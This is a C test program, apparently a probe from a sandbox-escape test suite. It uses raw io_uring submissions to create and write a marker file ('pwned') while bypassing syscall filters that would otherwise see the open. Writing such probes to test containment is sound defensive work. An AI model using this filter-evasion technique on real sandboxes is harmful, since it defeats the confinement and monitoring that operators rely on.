/* io_uring: io_uring_setup, then an IORING_OP_OPENAT with O_CREAT of the marker argv[1], which the kernel performs without any system call a filter sees. */
#include "attack.h"
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	usage(argc, 1, "MARKER");
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0) {
		if (errno == ENOSYS)
			cannot("io_uring_setup returns ENOSYS on this kernel");
		if (errno == EPERM)
			cannot("io_uring is disabled here (kernel.io_uring_disabled)");
		failed("io_uring_setup");
	}
	size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(uint32_t);
	size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
	char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
			   ? sq
			   : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		failed("mmap io_uring rings");

	struct io_uring_sqe *sqe = &sqes[0];
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_OPENAT;
	sqe->fd = AT_FDCWD;
	sqe->addr = (uint64_t)(uintptr_t)argv[1];
	sqe->len = 0644;
	sqe->open_flags = O_WRONLY | O_CREAT | O_TRUNC;
	uint32_t *tail = (uint32_t *)(sq + p.sq_off.tail);
	uint32_t mask = *(uint32_t *)(sq + p.sq_off.ring_mask);
	uint32_t *array = (uint32_t *)(sq + p.sq_off.array);
	array[*tail & mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);

	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		failed("io_uring_enter");
	uint32_t head = __atomic_load_n((uint32_t *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	uint32_t cmask = *(uint32_t *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (head & cmask);
	if (cqe->res < 0) {
		errno = -cqe->res;
		failed("IORING_OP_OPENAT");
	}
	succeeded("io_uring: IORING_OP_OPENAT O_CREAT");
	if (write(cqe->res, "pwned\n", 6) != 6)
		return 1;
	return 0;
}
